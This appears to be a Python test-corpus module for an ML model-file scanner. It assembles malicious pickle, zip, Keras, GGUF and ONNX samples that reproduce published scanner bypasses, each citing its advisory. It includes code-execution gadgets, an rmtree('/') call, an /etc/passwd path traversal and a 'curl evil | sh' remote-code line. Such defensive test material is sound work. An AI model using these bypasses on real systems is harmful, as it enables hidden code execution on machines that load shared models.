"""Regression corpus of published scanner bypasses, assembled from raw bytes at run time.

Each sample cites where the technique was published. Nothing here is ever unpickled; the bytes
exist only in memory or in temp dirs (tests, bench/bench_scan.py). Used by test_bypasses.py and by
the benchmark's detection table.
"""

from __future__ import annotations

import io
import json
import struct
import warnings
import zipfile
from collections.abc import Callable

from . import payloads as p
from .corpus_loaders import LOADER_SAMPLES
from .payloads import torch_zip as _torch_zip
from .payloads import zip_bytes as _zip
from .sample import Sample


def _call(module: str, name: str, *args: bytes, protocol: int = 4) -> Callable[[], bytes]:
    return lambda: p.reduce_call(module, name, *args, protocol=protocol)


def _s(text: str) -> bytes:
    return p.su(text)


def _patch(data: bytes, sig: bytes, offset: int, value: bytes) -> bytes:
    out = bytearray(data)
    pos = out.find(sig)
    while pos >= 0:
        out[pos + offset : pos + offset + len(value)] = value
        pos = out.find(sig, pos + 4)
    return bytes(out)


EVIL2 = p.os_system(protocol=2)

# -- unsafe callables that blocklist scanners missed ----------------------------------------------
_GADGETS: list[tuple[str, str, str, tuple[bytes, ...], str]] = [
    ("os-system", "os", "system", (_s("id"),), "classic __reduce__ RCE (Trail of Bits 2021)"),
    ("posix-system", "posix", "system", (_s("id"),), "platform alias of os.system"),
    ("nt-system", "nt", "system", (_s("id"),), "platform alias of os.system"),
    ("subprocess-popen", "subprocess", "Popen", (_s("id"),), "classic"),
    ("builtins-eval", "builtins", "eval", (_s("1"),), "fickling GHSA-h4rm-mm56-xf63"),
    ("builtins-exec", "builtins", "exec", (_s("1"),), "classic"),
    ("builtins-import", "builtins", "__import__", (_s("os"),), "classic"),
    ("pip-main", "pip", "main", (_s("install"),), "CVE-2025-1716 (Sonatype)"),
    (
        "asyncio-subprocess",
        "asyncio.unix_events",
        "_UnixSubprocessTransport",
        (),
        "CVE-2025-10157 / GHSA-gx77-x2pv-48v7 (JFrog)",
    ),
    (
        "asyncio-create-subprocess-shell",
        "asyncio.subprocess",
        "create_subprocess_shell",
        (_s("id"),),
        "CVE-2025-10157 class",
    ),
    (
        "timeit",
        "timeit",
        "timeit",
        (_s("0"), _s("__import__('os').system('id')")),
        "GHSA-v7x6-rv5q-mhwc",
    ),
    ("cprofile-run", "cProfile", "run", (_s("print(1)"),), "GHSA-46h3-79wf-xr6c"),
    ("profile-run", "profile", "run", (_s("print(1)"),), "GHSA-46h3-79wf-xr6c"),
    ("pdb-run", "pdb", "run", (_s("print(1)"),), "GHSA-4675-36f9-wf6r"),
    ("bdb-run", "bdb", "Bdb", (), "GHSA-4675-36f9-wf6r"),
    ("trace-run", "trace", "Trace", (), "GHSA-4675-36f9-wf6r"),
    ("doctest-debug-script", "doctest", "debug_script", (_s("print(1)"),), "GHSA-4675-36f9-wf6r"),
    ("pydoc-pipepager", "pydoc", "pipepager", (_s("x"), _s("id")), "picklescan pydoc.pipepager"),
    ("pyrepl-pager", "_pyrepl.pager", "pipe_pager", (_s("x"), _s("id")), "CVE-2026-56315"),
    ("uuid-cmd", "uuid", "_get_command_stdout", (_s("id"),), "CVE-2026-56315"),
    ("imaplib-stream", "imaplib", "IMAP4_stream", (_s("id"),), "CVE-2026-56315"),
    ("osx-support", "_osx_support", "_read_output", (_s("id"),), "CVE-2026-56315"),
    ("aix-support", "_aix_support", "_read_cmd_output", (_s("id"),), "CVE-2026-56315"),
    ("lib2to3", "lib2to3.pgen2.grammar", "Grammar", (), "GHSA-r8g5-cgf2-4m4m"),
    ("idlelib", "idlelib.pyshell", "ModifiedInterpreter", (), "GHSA-r8g5-cgf2-4m4m"),
    (
        "torch-bottleneck",
        "torch.utils.bottleneck.__main__",
        "run_cprofile",
        (_s("print(1)"), p.EMPTY_DICT),
        "protectai/modelscan#313 (torch.utils.bottleneck)",
    ),
    (
        "numpy-f2py",
        "numpy.f2py.crackfortran",
        "getlincoef",
        (_s("x"), p.EMPTY_DICT),
        "trailofbits/fickling#210 (numpy.f2py)",
    ),
    (
        "distutils-write-file",
        "distutils.file_util",
        "write_file",
        (_s("/tmp/x"), _s("y")),
        "CVE-2025-10155",
    ),
    ("ctypes-cdll", "ctypes", "CDLL", (_s("libc.so.6"),), "ctypes native code"),
    (
        "code-interpreter",
        "code",
        "InteractiveInterpreter",
        (),
        "protectai/modelscan#313 (code.InteractiveInterpreter.runcode)",
    ),
    ("io-fileio", "_io", "FileIO", (_s("/etc/passwd"),), "fickling UnsafeImportsML (_io.FileIO)"),
    (
        "importlib-import-module",
        "importlib",
        "import_module",
        (_s("os"),),
        "mmaitre314/picklescan#74",
    ),
    ("marshal-loads", "marshal", "loads", (p.short_binbytes(b"\xe3"),), "mmaitre314/picklescan#74"),
    (
        "pkgutil-resolve-name",
        "pkgutil",
        "resolve_name",
        (_s("os:system"),),
        "GHSA-vvpj-8cmc-gx39 (universal bypass)",
    ),
    ("operator-attrgetter", "operator", "attrgetter", (_s("system"),), "GHSA-m273-6v24-x4m4"),
    ("operator-methodcaller", "_operator", "methodcaller", (_s("system"),), "GHSA-955r-x9j8-7rhh"),
    (
        "pickle-loads",
        "pickle",
        "loads",
        (p.short_binbytes(b"\x80\x02N."),),
        "GHSA-84r2-jw7c-4r5q (nested pickle)",
    ),
    ("ensurepip", "ensurepip", "_run_pip", (p.EMPTY_TUPLE,), "GHSA-xp4f-hrf8-rxw7"),
    ("venv", "venv", "create", (_s("/tmp/v"),), "GHSA-vqmv-47xg-9wpr"),
    ("ssl-cert", "ssl", "get_server_certificate", (_s("x"),), "GHSA-hgrh-qx5j-jfwx"),
    ("http-client", "http.client", "HTTPConnection", (_s("x"),), "GHSA-hgrh-qx5j-jfwx"),
    ("requests-get", "requests", "get", (_s("http://x"),), "GHSA-hgrh-qx5j-jfwx"),
    ("logging-filehandler", "logging", "FileHandler", (_s("/tmp/x"),), "CVE-2026-56304"),
    (
        "mailcap-findmatch",
        "mailcap",
        "findmatch",
        (p.EMPTY_DICT, _s("text/plain")),
        "protectai/modelscan#346",
    ),
    ("interpreters", "_interpreters", "create", (), "fickling GHSA-6ggj-6f2q-f7mx"),
    ("posixsubprocess", "_posixsubprocess", "fork_exec", (), "fickling GHSA-m6fh-58r7-x697"),
    ("site-addsitedir", "site", "addsitedir", (_s("/tmp"),), "fickling GHSA-m6fh-58r7-x697"),
    ("atexit", "atexit", "register", (_s("x"),), "fickling GHSA-m6fh-58r7-x697"),
    ("torch-load", "torch", "load", (_s("x.pt"),), "nested torch.load"),
    ("torch-hub", "torch.hub", "load", (_s("evil/repo"), _s("m")), "fickling UnsafeImportsML"),
    (
        "torch-load-from-bytes",
        "torch.storage",
        "_load_from_bytes",
        (p.short_binbytes(b"\x80\x02N."),),
        "fickling UnsafeImportsML",
    ),
    ("torch-dynamo-guard", "torch._dynamo.guards", "GuardBuilder", (), "protectai/modelscan#313"),
    (
        "torch-fx-shapes",
        "torch.fx.experimental.symbolic_shapes",
        "ShapeEnv",
        (),
        "protectai/modelscan#313",
    ),
    ("numpy-load", "numpy", "load", (_s("x.npy"),), "nested numpy.load"),
    (
        "numpy-runstring",
        "numpy.testing._private.utils",
        "runstring",
        (_s("1"), p.EMPTY_DICT),
        "fickling UnsafeImportsML",
    ),
    ("types-codetype", "types", "CodeType", (), "code object construction"),
    ("types-functiontype", "types", "FunctionType", (), "function construction"),
    ("webbrowser", "webbrowser", "open", (_s("http://x"),), "classic"),
    ("shutil-rmtree", "shutil", "rmtree", (_s("/"),), "protectai/modelscan#198"),
    ("runpy", "runpy", "run_path", (_s("/tmp/x.py"),), "classic"),
    ("socket", "socket", "create_connection", (_s("x"),), "reverse shell staging"),
    (
        "commands-py2",
        "commands",
        "getoutput",
        (_s("id"),),
        "Python 2 name remapped to subprocess by fix_imports",
    ),
    ("builtins-getattr", "builtins", "getattr", (p.NONE, _s("x")), "attribute traversal"),
]


def _gadget_samples() -> list[Sample]:
    out = []
    for sid, mod, name, args, src in _GADGETS:
        out.append(Sample(f"gadget-{sid}", src, _call(mod, name, *args)))
    return out


# -- structural tricks -----------------------------------------------------------------------------
def _memo_confusion() -> bytes:
    # picklescan#14 (Doyensec 2023): BINPUT and MEMOIZE mixed so a naive memo model resolves the
    # STACK_GLOBAL operands to torch._utils while the unpickler sees os.system.
    return (
        p.proto(4)
        + p.su("os")
        + p.binput(0)
        + p.su("system")
        + p.binput(1)
        + p.su("torch._utils")
        + p.MEMOIZE
        + p.su("_rebuild_tensor_v2")
        + p.MEMOIZE
        + p.POP
        + p.POP
        + p.POP
        + p.POP
        + p.binget(0)
        + p.binget(1)
        + p.STACK_GLOBAL
        + p.su("id")
        + p.TUPLE1
        + p.REDUCE
        + p.STOP
    )


def _stack_global_binunicode8() -> bytes:
    return (
        p.proto(4)
        + p.bu8("os")
        + p.bu("system")
        + p.STACK_GLOBAL
        + p.su("id")
        + p.TUPLE1
        + p.REDUCE
        + p.STOP
    )


def _stack_global_unicode_nl() -> bytes:
    return (
        p.proto(4)
        + p.unicode_nl("os")
        + p.unicode_nl("system")
        + p.STACK_GLOBAL
        + p.unicode_nl("id")
        + p.TUPLE1
        + p.REDUCE
        + p.STOP
    )


def _stack_global_binstring() -> bytes:
    # protectai/modelscan#313: STACK_GLOBAL fed by classic STRING / SHORT_BINSTRING opcodes
    return (
        p.proto(4)
        + b"U\x02os"
        + b"T\x06\x00\x00\x00system"
        + p.STACK_GLOBAL
        + p.string_nl("id")
        + p.TUPLE1
        + p.REDUCE
        + p.STOP
    )


def _dynamic_stack_global() -> bytes:
    # non-string STACK_GLOBAL operands: the module name is computed by a call at load time
    return (
        p.proto(4)
        + p.global_("builtins", "str")
        + p.su("os")
        + p.TUPLE1
        + p.REDUCE
        + p.su("system")
        + p.STACK_GLOBAL
        + p.su("id")
        + p.TUPLE1
        + p.REDUCE
        + p.STOP
    )


def _partial_wrapper(module: str, name: str) -> Callable[[], bytes]:
    # trailofbits/fickling#210: the dangerous callable hides inside functools.partial(func, arg),
    # and the partial object is what REDUCE calls
    return lambda: (
        p.proto(4)
        + p.global_("functools", "partial")
        + p.global_(module, name)
        + p.su("id")
        + p.TUPLE2
        + p.REDUCE
        + p.EMPTY_TUPLE
        + p.REDUCE
        + p.STOP
    )


def _nullifai_broken() -> bytes:
    # ReversingLabs "nullifAI" (Feb 2025): payload first, then a stream that fails to parse
    return (
        p.proto(2)
        + p.global_("os", "system")
        + p.string_nl("id")
        + p.TUPLE1
        + p.REDUCE
        + b"\xff\xfe broken"
    )


def _after_stop() -> bytes:
    return p.proto(2) + p.EMPTY_DICT + p.STOP + EVIL2


def _pop_result() -> bytes:
    # promptfoo/ModelAudit vs fickling: the call result is POPped so it leaves no AST trace
    return (
        p.proto(2)
        + p.global_("os", "system")
        + p.string_nl("id")
        + p.TUPLE1
        + p.REDUCE
        + p.POP
        + p.EMPTY_DICT
        + p.STOP
    )


def _setstate_build() -> bytes:
    # __setstate__ hijack via BUILD slot state (fickling GHSA-6ggj-6f2q-f7mx PoC style)
    return (
        p.proto(2)
        + p.global_("collections", "OrderedDict")
        + p.EMPTY_TUPLE
        + p.REDUCE
        + p.NONE
        + p.EMPTY_DICT
        + p.su("__setstate__")
        + p.global_("os", "system")
        + p.SETITEM
        + p.TUPLE2
        + p.BUILD
        + p.su("id")
        + p.BUILD
        + p.STOP
    )


def _build_on_global() -> bytes:
    return (
        p.proto(2)
        + p.global_("torch._utils", "_rebuild_tensor_v2")
        + p.EMPTY_DICT
        + p.su("__code__")
        + p.NONE
        + p.SETITEM
        + p.BUILD
        + p.STOP
    )


def _ext_opcode() -> bytes:
    return p.proto(2) + b"\x82\x01" + p.su("id") + p.TUPLE1 + p.REDUCE + p.STOP


def _inst_pty() -> bytes:
    # trailofbits/fickling#108: OBJ opcode with pty.spawn
    return b'(cpty\nspawn\nS"id"\no.'


def _inst_opcode() -> bytes:
    return b"(S'id'\nios\nsystem\n."


def _global_attr_chain() -> bytes:
    # fickling GHSA-q5qq-mvfm-j35x class: dangerous callable reached through an allowed package
    return (
        p.proto(4)
        + p.su("torch.serialization")
        + p.su("os.system")
        + p.STACK_GLOBAL
        + p.su("id")
        + p.TUPLE1
        + p.REDUCE
        + p.STOP
    )


def _dunder_builtins() -> bytes:
    return (
        p.proto(4)
        + p.su("builtins")
        + p.su("__builtins__.eval")
        + p.STACK_GLOBAL
        + p.su("1")
        + p.TUPLE1
        + p.REDUCE
        + p.STOP
    )


def _sys_modules() -> bytes:
    return p.proto(4) + p.stack_global("sys", "modules") + p.STOP


def _nested_bytes_pickle() -> bytes:
    return (
        p.proto(4)
        + p.stack_global("pickle", "loads")
        + p.binbytes(p.os_system())
        + p.TUPLE1
        + p.REDUCE
        + p.STOP
    )


def _nested_latin1_pickle() -> bytes:
    # protocol 2 bytes are _codecs.encode(latin1 text): a pickle hidden in a unicode string
    inner = p.os_system(protocol=2).decode("latin1")
    return (
        p.proto(2)
        + p.global_("_codecs", "encode")
        + p.bu(inner)
        + p.su("latin1")
        + p.TUPLE2
        + p.REDUCE
        + p.STOP
    )


def _frame_hidden() -> bytes:
    body = p.stack_global("os", "system") + p.su("id") + p.TUPLE1 + p.REDUCE + p.STOP
    return p.proto(4) + p.frame(len(body)) + body


def _protocol0_memo() -> bytes:
    return (
        b"Vos\np0\n0Vsystem\np1\n0"
        + b"c__builtin__\ngetattr\n(c__builtin__\n__import__\n"
        + b"(g0\ntRg1\ntR(S'id'\ntR."
    )


# -- containers ------------------------------------------------------------------------------------
def _zip_crc() -> bytes:
    return _patch(
        _patch(_torch_zip(EVIL2), b"PK\x01\x02", 16, b"\0\0\0\0"), b"PK\x03\x04", 14, b"\0\0\0\0"
    )


def _zip_flag_bits() -> bytes:
    return _patch(
        _patch(_torch_zip(EVIL2), b"PK\x01\x02", 8, b"\x01\x00"), b"PK\x03\x04", 6, b"\x01\x00"
    )


def _zip_name_mismatch() -> bytes:
    data = _torch_zip(EVIL2)
    lfh = data.find(b"PK\x03\x04")
    name = b"archive/data.pkl"
    return data[: lfh + 30] + b"archive/data.PKL" + data[lfh + 30 + len(name) :]


def _zip_odd_member_name() -> bytes:
    return _zip({"archive/data.pkl": p.proto(2) + p.NONE + p.STOP, "archive/extra.txt": EVIL2})


def _zip_prepended() -> bytes:
    return b"\x00" * 100 + _torch_zip(EVIL2)


def _zip_duplicate() -> bytes:
    buf = io.BytesIO()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        with zipfile.ZipFile(buf, "w") as z:
            z.writestr("archive/data.pkl", EVIL2)
            z.writestr("archive/data.pkl", p.proto(2) + p.NONE + p.STOP)
    return buf.getvalue()


def _seven_zip_torch() -> bytes:
    import py7zr

    buf = io.BytesIO()
    with py7zr.SevenZipFile(buf, "w") as z:
        z.writestr(_torch_zip(EVIL2), "pytorch_model.bin")
    return buf.getvalue()


def _gzip_pickle() -> bytes:
    import gzip

    return gzip.compress(EVIL2)


def _npy_object() -> bytes:
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header += b" " * (63 - (10 + len(header)) % 64) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + EVIL2


def _torch_legacy() -> bytes:
    magic = b"\x80\x02\x8a\nl\xfc\x9cF\xf9 j\xa8P\x19."
    return magic + b"\x80\x02M\xe9\x03." + b"\x80\x02}q\x00." + EVIL2 + b"\x80\x02]q\x00."


def _keras_lambda() -> bytes:
    cfg = {
        "module": "keras",
        "class_name": "Sequential",
        "config": {
            "layers": [
                {
                    "module": "keras.layers",
                    "class_name": "Lambda",
                    "config": {
                        "function": {"class_name": "__lambda__", "config": {"code": "4wEAAAAAAAAA"}}
                    },
                }
            ]
        },
    }
    return _zip(
        {"metadata.json": b"{}", "config.json": json.dumps(cfg).encode(), "model.weights.h5": b""}
    )


def _keras_module_gadget() -> bytes:
    fn = {
        "module": "subprocess",
        "class_name": "function",
        "config": "check_output",
        "registered_name": "function",
    }
    cfg = {"module": "keras.layers", "class_name": "Dense", "config": {"activation": fn}}
    return _zip({"metadata.json": b"{}", "config.json": json.dumps(cfg).encode()})


def _gguf_ssti() -> bytes:
    def s(x: str) -> bytes:
        b = x.encode()
        return struct.pack("<Q", len(b)) + b

    tpl = "{{ ().__class__.__base__.__subclasses__() }}"
    return (
        b"GGUF"
        + struct.pack("<IQQ", 3, 0, 1)
        + s("tokenizer.chat_template")
        + struct.pack("<I", 8)
        + s(tpl)
    )


def _onnx_traversal() -> bytes:
    def field(num: int, payload: bytes) -> bytes:
        return bytes([(num << 3) | 2, len(payload)]) + payload

    entry = field(1, b"location") + field(2, b"../../../../etc/passwd")
    tensor = field(8, b"W") + field(13, entry) + b"\x70\x01"  # data_location = EXTERNAL
    graph = field(5, tensor)
    return b"\x08\x08" + field(7, graph)


def _python_remote_code() -> bytes:
    return b"import os\nos.system('curl evil | sh')\nclass GPTModel:\n    pass\n"


SAMPLES: list[Sample] = [
    *_gadget_samples(),
    Sample(
        "gadget-functools-partial",
        "trailofbits/fickling#210 (functools.partial wrapper)",
        _partial_wrapper("os", "system"),
    ),
    Sample("memo-confusion", "mmaitre314/picklescan#14 (Doyensec)", _memo_confusion),
    Sample("stack-global-binunicode8", "STACK_GLOBAL operand variants", _stack_global_binunicode8),
    Sample("stack-global-unicode-nl", "STACK_GLOBAL operand variants", _stack_global_unicode_nl),
    Sample("stack-global-binstring", "protectai/modelscan#313", _stack_global_binstring),
    Sample(
        "stack-global-dynamic",
        "protectai/modelscan#313 (non-string operands)",
        _dynamic_stack_global,
    ),
    Sample("nullifai-broken-pickle", "ReversingLabs nullifAI 2025", _nullifai_broken),
    Sample(
        "pickle-after-stop", "concatenated pickles (joblib/legacy torch load several)", _after_stop
    ),
    Sample("pop-call-result", "promptfoo ModelAudit: fickling AST drops POPped calls", _pop_result),
    Sample("setstate-build", "fickling GHSA-6ggj-6f2q-f7mx (BUILD/__setstate__)", _setstate_build),
    Sample("build-on-global", "BUILD on an imported function", _build_on_global),
    Sample("ext-opcode", "copyreg extension registry (EXT1)", _ext_opcode),
    Sample("obj-pty-spawn", "trailofbits/fickling#108", _inst_pty),
    Sample("inst-opcode", "INST opcode", _inst_opcode),
    Sample("attr-chain", "fickling GHSA-q5qq-mvfm-j35x class", _global_attr_chain),
    Sample("dunder-builtins", "builtins.__builtins__ traversal", _dunder_builtins),
    Sample("sys-modules", "sys.modules", _sys_modules),
    Sample("nested-bytes-pickle", "GHSA-84r2-jw7c-4r5q", _nested_bytes_pickle),
    Sample(
        "nested-latin1-pickle", "protocol 2 _codecs.encode hidden pickle", _nested_latin1_pickle
    ),
    Sample("frame-wrapped", "protocol 4 FRAME", _frame_hidden),
    Sample("protocol0-memo", "protocol 0 PUT/GET + getattr(__import__)", _protocol0_memo),
    Sample(
        "nonstandard-extension",
        "CVE-2025-1889 / GHSA-769v-p64c-89pr",
        lambda: EVIL2,
        name="weights.bin",
    ),
    Sample("zip-crc", "CVE-2025-10156 (JFrog)", _zip_crc, "model.pt", "archive"),
    Sample(
        "zip-flag-bits",
        "CVE-2025-1945 / GHSA-w8jq-xcqf-f792",
        _zip_flag_bits,
        "model.pt",
        "archive",
    ),
    Sample(
        "zip-name-mismatch",
        "CVE-2025-1944 / GHSA-7q5r-7gvp-wc82",
        _zip_name_mismatch,
        "model.pt",
        "archive",
    ),
    Sample(
        "zip-extra-member",
        "GHSA-769v-p64c-89pr (pickle in a non-.pkl member)",
        _zip_odd_member_name,
        "model.pt",
        "archive",
    ),
    Sample("zip-prepended", "prepended data before the zip", _zip_prepended, "model.pt", "archive"),
    Sample("zip-duplicate", "duplicate entry names", _zip_duplicate, "model.pt", "archive"),
    Sample(
        "7z-torch",
        "ReversingLabs nullifAI (7z-compressed PyTorch)",
        _seven_zip_torch,
        "model.7z",
        "archive",
    ),
    Sample("gzip-pickle", "compressed wrapper", _gzip_pickle, "model.pkl.gz", "archive"),
    Sample("npy-object", "numpy allow_pickle object array", _npy_object, "arr.npy", "other"),
    Sample(
        "torch-legacy",
        "torch.save(_use_new_zipfile_serialization=False)",
        _torch_legacy,
        "model.pth",
        "pickle",
    ),
    Sample("keras-lambda", "CVE-2024-3660", _keras_lambda, "model.keras", "other"),
    Sample("keras-module-gadget", "CVE-2025-1550", _keras_module_gadget, "model.keras", "other"),
    Sample("gguf-ssti", "CVE-2024-34359 / GHSA-56xg-wfcc-g829", _gguf_ssti, "model.gguf", "other"),
    Sample("onnx-traversal", "CVE-2022-25882", _onnx_traversal, "model.onnx", "other"),
    Sample(
        "remote-code",
        "trust_remote_code modelling file",
        _python_remote_code,
        "modeling_evil.py",
        "other",
    ),
    *LOADER_SAMPLES,
]
